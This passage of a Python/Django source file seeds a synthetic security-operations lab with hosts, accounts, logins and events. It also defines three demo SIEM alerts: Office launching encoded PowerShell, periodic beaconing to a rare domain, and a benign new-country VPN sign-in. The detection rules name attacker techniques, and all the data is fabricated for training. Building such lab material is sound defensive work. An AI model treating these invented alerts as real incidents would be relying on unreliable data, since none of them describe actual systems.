    _beacon_story(b)
    _benign_story(b)
    _intel(b)
    _last_logins(b)
    return b


def seed(now: datetime | None = None, seed: int = SEED) -> dict[str, int]:
    """Rebuild the estate (and forget tickets, writes and faults); keys are kept. Row counts."""
    now = (now or timezone.now()).replace(microsecond=0)
    b = build(now, seed)
    with transaction.atomic():
        for model in (*EMPTIED, *reversed(SEEDED)):
            model.objects.all().delete()
        Host.objects.bulk_create(b.hosts.values())  # primary keys come back on PostgreSQL and SQLite
        for row in b.processes + b.connections:
            row.host_id = row.host.pk
        Account.objects.bulk_create(b.accounts.values())
        for model, rows in (
            (Login, b.logins),
            (SiemEvent, b.events),
            (ProcessEvent, b.processes),
            (NetworkEvent, b.connections),
            (Indicator, b.indicators),
        ):
            model.objects.bulk_create(rows, batch_size=500)
        faults.clear()
        LabEstate.objects.create(seed=seed, seeded_at=now)
    return {
        "hosts": len(b.hosts),
        "accounts": len(b.accounts),
        "logins": len(b.logins),
        "events": len(b.events),
        "processes": len(b.processes),
        "connections": len(b.connections),
        "indicators": len(b.indicators),
    }


def seeded_at() -> datetime | None:
    estate = LabEstate.objects.order_by("-seeded_at").first()
    return estate.seeded_at if estate else None


def demo_alerts(now: datetime | None = None) -> list[dict]:
    """Alerts for the three stories, as the lab SIEM would raise them, timed to the seeded estate."""
    now = now or seeded_at() or timezone.now()

    def at(ago: timedelta) -> str:
        return (now - ago).isoformat().replace("+00:00", "Z")

    return [
        {
            "source": "lab-siem",
            "external_id": "LAB-SIEM-1001",
            "title": f"Office application spawned encoded PowerShell on {PHISHED_HOST}",
            "severity": "high",
            "host": PHISHED_HOST,
            "user": PHISHED_USER,
            "observed_at": at(POWERSHELL_AGO),
            "details": {
                "rule": "Office child process: encoded PowerShell",
                "parent_image": "WINWORD.EXE",
                "image": "powershell.exe",
                "command_line": POWERSHELL_COMMAND[:120] + "...",
                "host_id": PHISHED_HOST_ID,
            },
        },
        {
            "source": "lab-siem",
            "external_id": "LAB-SIEM-1002",
            "title": f"Periodic outbound connections from {BEACON_HOST} to a rare domain",
            "severity": "high",
            "host": BEACON_HOST,
            "user": "SYSTEM",
            "observed_at": at(BEACON_ALERT_AGO),
            "details": {
                "rule": "Beaconing: regular interval to a domain first seen in the last 30 days",
                "remote_domain": BEACON_DOMAIN,
                "remote_ip": BEACON_IP,
                "remote_port": 443,
                "interval_s": BEACON_INTERVAL_S,
                "image": BEACON_IMAGE,
            },
        },
        {
            "source": "lab-siem",
            "external_id": "LAB-SIEM-1003",
            "title": f"Sign-in from a new country for {BENIGN_USER}",
            "severity": "medium",
            "host": "SRV-VPN-01",
            "user": BENIGN_USER,
            "observed_at": at(BENIGN_FIRST_LOGIN_AGO - timedelta(minutes=1)),
            "details": {
                "rule": "First sign-in from a country not seen for this user in 90 days",
                "source_ip": BENIGN_IP,
                "source_country": BENIGN_COUNTRY,
                "usual_countries": ["GB"],
                "method": "vpn",
            },
        },
    ]
